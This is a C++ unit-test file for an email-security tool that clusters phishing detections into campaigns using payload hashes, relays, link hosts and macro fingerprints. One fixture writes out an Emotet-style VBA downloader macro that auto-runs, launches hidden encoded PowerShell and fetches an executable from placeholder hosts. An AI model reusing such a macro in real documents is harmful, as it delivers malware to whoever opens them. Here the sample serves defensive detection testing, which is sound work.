// SPDX-License-Identifier: Apache-2.0
// tests/unit/campaign/cluster_test.cpp - grouping detections into campaigns
//
// Starts from the demo's real detections; variants are copies with one
// property changed (the same payload from another account, the same person
// a month later, ...), as a campaign's next wave would look.
#include "campaign/cluster.hpp"
#include "demo_detections.hpp"

#include <fmt/format.h>
#include <gtest/gtest.h>

using namespace replyguard;
using campaign::detection;

namespace {

campaign::cluster_options opts() { return {14, {"sakura-shoji.example"}}; }

bool contains(const std::vector<std::string>& v, std::string_view s) {
    return std::find(v.begin(), v.end(), s) != v.end();
}

detection variant(const detection& base, std::string key, std::int64_t shift_days) {
    detection d = base;
    d.key = std::move(key);
    d.date += shift_days * 86400;
    d.time += shift_days * 86400;
    return d;
}

}  // namespace

TEST(Cluster, DemoHasThreeCampaigns) {
    // 02 and 03 impersonate two partners; 06 (the ZIP) and 07 (its password) come
    // from a lookalike of our own domain and are one campaign against us.
    auto cs = campaign::cluster(rg_test::demo().detections, opts());
    ASSERT_EQ(cs.size(), 3u);
    std::size_t own = 0;
    for (const auto& c : cs) {
        EXPECT_EQ(c.verdict, "malicious");
        EXPECT_EQ(c.id.size(), 12u);
        if (c.own_org_impersonated) {
            ++own;
            EXPECT_EQ(c.count, 2u);
            EXPECT_TRUE(contains(c.senders, "keiri@sakura-shoji-co.example"));
        } else {
            EXPECT_EQ(c.count, 1u);
        }
    }
    EXPECT_EQ(own, 1u);
    EXPECT_GE(cs[0].last_seen, cs[1].last_seen);  // newest first
    EXPECT_GE(cs[1].last_seen, cs[2].last_seen);
}

TEST(Cluster, CampaignFacts) {
    auto cs = campaign::cluster({rg_test::by_source("02-")}, opts());
    ASSERT_EQ(cs.size(), 1u);
    const auto& c = cs[0];
    ASSERT_EQ(c.impersonated.size(), 1u);
    EXPECT_EQ(c.impersonated[0].address, "tanaka@fuji-kogyo.example");
    EXPECT_EQ(c.organisations, std::vector<std::string>{"fuji-kogyo.example"});
    EXPECT_EQ(c.senders, std::vector<std::string>{"info@kagoshima-dental.example"});
    EXPECT_EQ(c.relays, std::vector<std::string>{"192.0.2.22 (mail.kagoshima-dental.example)"});
    EXPECT_TRUE(contains(c.targets, "sato@sakura-shoji.example"));
    EXPECT_TRUE(contains(c.payload_kinds, "password_zip"));
    EXPECT_TRUE(contains(c.payload_kinds, "shortcut"));
    EXPECT_EQ(c.subjects, std::vector<std::string>{"RE: 見積書送付のお願い (4月分)"});
    EXPECT_TRUE(contains(c.groups, "hijack"));
    EXPECT_TRUE(contains(c.groups, "payload"));
}

TEST(Cluster, PayloadKinds) {
    auto k3 = campaign::payload_kinds_of(rg_test::by_source("03-"));
    EXPECT_EQ(k3, std::vector<std::string>{"download_link"});
    auto k6 = campaign::payload_kinds_of(rg_test::by_source("06-"));
    EXPECT_TRUE(contains(k6, "password_zip"));
    EXPECT_TRUE(contains(k6, "script"));
}

TEST(Cluster, SamePayloadFromAnotherAccountJoins) {
    detection a = rg_test::by_source("02-");
    detection b = variant(a, "wave2@x", 3);
    b.from_address = "soumu@other-victim.example";
    b.from_domain = "other-victim.example";
    b.relay_ip = "198.51.100.9";
    b.impersonated = {{"山本 美咲", "yamamoto@fuji-kogyo.example", "fuji-kogyo.example"}};
    auto cs = campaign::cluster({a, b}, opts());
    ASSERT_EQ(cs.size(), 1u);  // linked by the ZIP's and the shortcut's hashes
    EXPECT_EQ(cs[0].count, 2u);
    EXPECT_EQ(cs[0].impersonated.size(), 2u);
    EXPECT_EQ(cs[0].senders.size(), 2u);
    EXPECT_EQ(cs[0].organisations, std::vector<std::string>{"fuji-kogyo.example"});

    // Only the inner member's hash shared (the ZIP re-packed): still one campaign.
    b.attachments[0].sha256 = std::string(64, 'e');
    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 1u);
    // Nothing shared: two campaigns.
    b.attachments[0].member_sha256 = {std::string(64, 'f')};
    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 2u);
}

TEST(Cluster, TimeWindowSeparatesWaves) {
    detection a = rg_test::by_source("03-");
    detection later = variant(a, "later@x", 30);
    EXPECT_EQ(campaign::cluster({a, later}, opts()).size(), 2u);
    auto wide = opts();
    wide.window_days = 60;
    EXPECT_EQ(campaign::cluster({a, later}, wide).size(), 1u);
    // Transitive: a chain of waves 10 days apart is one campaign, though its ends are 20 days apart.
    detection mid = variant(a, "mid@x", 10);
    detection b = variant(a, "b@x", 20);
    EXPECT_EQ(campaign::cluster({a, mid, b}, opts()).size(), 1u);
}

TEST(Cluster, SharedRelayLinks) {
    detection a = rg_test::by_source("03-");
    detection b = rg_test::by_source("06-");
    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 2u);
    b.relay_ip = a.relay_ip;
    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 1u);
}

TEST(Cluster, CommonLinkHostNeverLinks) {
    // A host in most detections (a signature link) is boilerplate, not a payload family.
    std::vector<detection> ds;
    for (int i = 0; i < 4; ++i) {
        detection d = rg_test::by_source("06-");
        d.impersonated.clear();  // only the link host may join them
        d.key = "k" + std::to_string(i);
        d.attachments.clear();
        d.relay_ip = "203.0.113." + std::to_string(i);
        d.url_hosts = {"www.common-signature.example"};
        ds.push_back(d);
    }
    EXPECT_EQ(campaign::cluster(ds, opts()).size(), 4u);
}

TEST(Cluster, OwnOrganisationImpersonated) {
    detection d = rg_test::by_source("03-");
    d.impersonated = {{"佐藤 花子", "sato@sakura-shoji.example", "sakura-shoji.example"}};
    auto cs = campaign::cluster({d}, opts());
    ASSERT_EQ(cs.size(), 1u);
    EXPECT_TRUE(cs[0].own_org_impersonated);
    auto other = opts();
    other.org_domains = {"mail.fuji-kogyo.example"};  // compared by registrable domain
    EXPECT_FALSE(campaign::cluster({d}, other)[0].own_org_impersonated);
    // Free-mail is never an organisation.
    d.impersonated = {{"Sato", "sato.hanako@gmail.com", "gmail.com"}};
    auto fm = campaign::cluster({d}, {14, {"gmail.com"}});
    EXPECT_TRUE(fm[0].organisations.empty());
    EXPECT_FALSE(fm[0].own_org_impersonated);
}

TEST(Cluster, IdIsStableAndOrderIndependent) {
    auto ds = rg_test::demo().detections;
    auto a = campaign::cluster(ds, opts());
    std::reverse(ds.begin(), ds.end());
    auto b = campaign::cluster(ds, opts());
    ASSERT_EQ(a.size(), b.size());
    for (std::size_t i = 0; i < a.size(); ++i) EXPECT_EQ(a[i].id, b[i].id);
}

TEST(Cluster, Empty) { EXPECT_TRUE(campaign::cluster({}, opts()).empty()); }

namespace {

// An Emotet-style downloader macro (2019 shape); the variants rename variables
// and swap the URL, as the waves of one campaign did.
std::string macro_source(std::string_view var, std::string_view url) {
    return fmt::format(
        "Attribute VB_Name = \"ThisDocument\"\n"
        "' generated\n"
        "Sub AutoOpen()\n"
        "    Dim {0} As Object\n"
        "    Set {0} = CreateObject(\"WScript.Shell\")\n"
        "    Dim cmdLine As String\n"
        "    cmdLine = \"powershell -w hidden -enc \" & Chr(34) & \"JABzAD0AJwBoAHQAdABwADoA\" & Chr(34)\n"
        "    cmdLine = Replace(cmdLine, \"JAB\", \"JAB\")\n"
        "    Dim target As String\n"
        "    target = Environ(\"TEMP\") & \"\\\\update.exe\"\n"
        "    Call Download(\"{1}\", target)\n"
        "    {0}.Run cmdLine, 0, False\n"
        "End Sub\n"
        "Private Sub Download(ByVal src As String, ByVal dst As String)\n"
        "    Dim http As Object: Set http = CreateObject(\"MSXML2.XMLHTTP\")\n"
        "    http.Open \"GET\", src, False\n"
        "    http.Send\n"
        "End Sub\n",
        var, url);
}

}  // namespace

TEST(Cluster, MacroFingerprintNormalises) {
    auto a = campaign::macro_fingerprint(
        "Sub  AutoOpen()\r\n\tDIM x AS Object\n' comment line here\nAttribute VB_Name = \"M\"\nx\n");
    auto b = campaign::macro_fingerprint("sub autoopen()\n  dim x as object\n");
    EXPECT_EQ(a, b);
    EXPECT_EQ(a.size(), 2u);  // comment, attribute and the short line are skipped
    EXPECT_TRUE(std::is_sorted(a.begin(), a.end()));
    EXPECT_TRUE(campaign::macro_fingerprint("").empty());
}

TEST(Cluster, SimilarMacrosLinkDifferentMacrosDoNot) {
    auto fa = campaign::macro_fingerprint(macro_source("wsh", "http://a.example/x"));
    auto fb = campaign::macro_fingerprint(macro_source("objShell", "http://b.example/y"));
    auto fc = campaign::macro_fingerprint(
        "Sub Workbook_Open()\n    MsgBox \"Quarterly figures updated\"\n    Range(\"A1\").Value = Date\n"
        "    Sheets(\"Summary\").Activate\n    ActiveWorkbook.Save\n    Application.StatusBar = False\nEnd Sub\n");
    double ab = campaign::macro_similarity(fa, fb);
    EXPECT_GE(ab, 0.5) << ab;  // one variable renamed on 4 of 15 lines
    EXPECT_LT(ab, 1.0);
    EXPECT_LT(campaign::macro_similarity(fa, fc), 0.2);

    detection a = rg_test::by_source("06-");
    a.relay_ip.clear();
    a.impersonated.clear();  // only the macro may join them
    a.attachments[0].macro_fp = fa;
    detection b = variant(a, "macro-b@x", 2);
    b.attachments[0].sha256 = std::string(64, '1');
    b.attachments[0].member_sha256.clear();
    b.attachments[0].macro_fp = fb;
    a.attachments[0].member_sha256.clear();
    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 1u);
    b.attachments[0].macro_fp = fc;
    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 2u);
}

namespace {

// A detection of the 02- hijack carrying its own payload `sha` from its own account and relay.
detection wave_member(std::string key, std::string sha, std::int64_t shift_days, std::string relay) {
    detection d = variant(rg_test::by_source("02-"), std::move(key), shift_days);
    d.attachments.resize(1);
    d.attachments[0].sha256 = std::move(sha);
    d.attachments[0].member_sha256.clear();
    d.attachments[0].macro_fp.clear();
    d.relay_ip = std::move(relay);
    return d;
}

}  // namespace

TEST(Cluster, PersonImpersonatedInTwoWavesDoesNotBridgeThem) {
    // Both waves impersonate the same person (02's tanaka@fuji-kogyo.example).
    std::vector<detection> ds{wave_member("a1", std::string(64, 'a'), 0, "198.51.100.1"),
                              wave_member("a2", std::string(64, 'a'), 1, "198.51.100.2"),
                              wave_member("b1", std::string(64, 'b'), 2, "198.51.100.3"),
                              wave_member("b2", std::string(64, 'b'), 3, "198.51.100.4")};
    EXPECT_EQ(campaign::cluster(ds, opts()).size(), 2u);
    // A mail with no shared payload joins one of them by the person, still two campaigns.
    ds.push_back(wave_member("free", std::string(64, 'c'), 2, "198.51.100.5"));
    auto cs = campaign::cluster(ds, opts());
    ASSERT_EQ(cs.size(), 2u);
    EXPECT_EQ(cs[0].count + cs[1].count, 5u);
    // One wave alone: the person ties the free mail to it.
    EXPECT_EQ(campaign::cluster({ds[0], ds[1], ds[4]}, opts()).size(), 1u);
}

TEST(Cluster, RelayOfManyOrganisationsNeverLinks) {
    std::vector<detection> ds;
    for (int i = 0; i < 5; ++i) {
        detection d = wave_member(fmt::format("r{}", i), std::string(64, static_cast<char>('a' + i)), i, "203.0.113.7");
        std::string org = fmt::format("partner{}.example", i);
        d.impersonated = {{"", "someone@" + org, org}};
        ds.push_back(d);
    }
    EXPECT_EQ(campaign::cluster(ds, opts()).size(), 5u);  // five organisations: a provider's relay
    ds.resize(3);
    EXPECT_EQ(campaign::cluster(ds, opts()).size(), 1u);  // three: one sender's host
}

TEST(Cluster, QuotedConversationHostsNeverLink) {
    // Two different payloads quoting the same thread (its hosts in url_hosts): two campaigns.
    detection a = wave_member("q1", std::string(64, 'a'), 0, "198.51.100.1");
    detection b = wave_member("q2", std::string(64, 'b'), 1, "198.51.100.2");
    a.impersonated = {{"", "x@one.example", "one.example"}};
    b.impersonated = {{"", "y@two.example", "two.example"}};
    a.url_hosts = b.url_hosts = {"www.newsletter-of-the-thread.example"};
    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 2u);
}

TEST(Cluster, ListedLinkHostLinks) {
    // Two mails impersonating different partners, each with a link on the IOC list at
    // one host: one campaign (the host delivers the payload); another host: two.
    detection a = wave_member("i1", std::string(64, 'a'), 0, "198.51.100.1");
    detection b = wave_member("i2", std::string(64, 'b'), 1, "198.51.100.2");
    a.impersonated = {{"", "x@one.example", "one.example"}};
    b.impersonated = {{"", "y@two.example", "two.example"}};
    auto listed = [](std::string url) {
        campaign::detection_finding f;
        f.id = "IOC_URL";
        f.group = "payload";
        f.score = 6.0;
        f.evidence = {{"url", std::move(url)}, {"matched", "x"}, {"where", "message"}};
        return f;
    };
    a.findings.push_back(listed("https://dl.bad-host.example/a/invoice.doc"));
    b.findings.push_back(listed("https://DL.bad-host.example:8443/b"));
    auto cs = campaign::cluster({a, b}, opts());
    ASSERT_EQ(cs.size(), 1u);
    EXPECT_TRUE(contains(cs[0].url_hosts, "dl.bad-host.example"));
    EXPECT_TRUE(contains(cs[0].payload_kinds, "download_link"));
    b.findings.back() = listed("https://elsewhere.example/b");
    EXPECT_EQ(campaign::cluster({a, b}, opts()).size(), 2u);
}

TEST(Cluster, OurAbusedAccountIsOneCampaign) {
    // The milter's outbound events of one account of ours, different payloads: one campaign.
    auto event = [](std::string key, std::string sha, int day, std::string account) {
        detection d = wave_member(std::move(key), std::move(sha), day, "");
        d.impersonated.clear();
        campaign::detection_finding f;
        f.id = "OUTBOUND_ACCOUNT_ABUSE";
        f.group = "outbound";
        f.evidence = {{"account", std::move(account)}, {"client_ip", "203.0.113.66"}};
        d.findings.push_back(f);
        return d;
    };
    std::vector<detection> ds{event("o1", std::string(64, 'a'), 0, "sato"),
                              event("o2", std::string(64, 'b'), 2, "sato")};
    auto cs = campaign::cluster(ds, opts());
    ASSERT_EQ(cs.size(), 1u);
    EXPECT_EQ(cs[0].abused_accounts, std::vector<std::string>{"sato"});
    ds.push_back(event("o3", std::string(64, 'c'), 1, "suzuki"));
    EXPECT_EQ(campaign::cluster(ds, opts()).size(), 2u);
}

TEST(Cluster, ManyMacroVariantsAreBucketed) {
    // 1200 distinct fingerprints (above the exact-comparison limit): two families of
    // 600 variants each, every variant with 8 of 40 lines its own. Each family is one
    // campaign; the two never meet.
    std::vector<detection> ds;
    std::uint64_t salt = 1;
    for (int fam = 0; fam < 2; ++fam)
        for (int i = 0; i < 600; ++i) {
            detection d = wave_member(fmt::format("m{}-{}", fam, i), fmt::format("{:064x}", fam * 1000 + i), i % 10,
                                      fmt::format("10.{}.{}.1", fam, i));  // internal: no relay link
            d.relay_ip.clear();
            d.impersonated.clear();
            std::vector<std::uint64_t> fp;
            for (std::uint64_t l = 0; l < 40; ++l)
                fp.push_back(l < 32 ? (fam + 1) * 1000003ULL + l * 7919ULL : salt++ * 0x9e3779b97f4a7c15ULL);
            std::sort(fp.begin(), fp.end());
            d.attachments[0].macro_fp = fp;
            ds.push_back(d);
        }
    auto cs = campaign::cluster(ds, opts());
    ASSERT_EQ(cs.size(), 2u);
    EXPECT_EQ(cs[0].count, 600u);
    EXPECT_EQ(cs[1].count, 600u);
}

TEST(Cluster, GenuineFeedbackLeavesCampaigns) {
    auto ds = rg_test::demo().detections;
    std::size_t before = 0;
    for (const auto& c : campaign::cluster(ds, opts())) before += c.count;
    ASSERT_EQ(before, 4u);
    auto it = std::find_if(ds.begin(), ds.end(), [](const detection& d) { return d.source.starts_with("07-"); });
    ASSERT_NE(it, ds.end());
    it->feedback = "genuine";
    auto cs = campaign::cluster(ds, opts());
    std::size_t after = 0;
    for (const auto& c : cs) after += c.count;
    EXPECT_EQ(after, 3u);
    EXPECT_EQ(cs.size(), 3u);  // 06 alone still impersonates us
    it->feedback = "hijack";   // a confirmation changes nothing
    EXPECT_EQ(campaign::cluster(ds, opts()).size(), 3u);
}
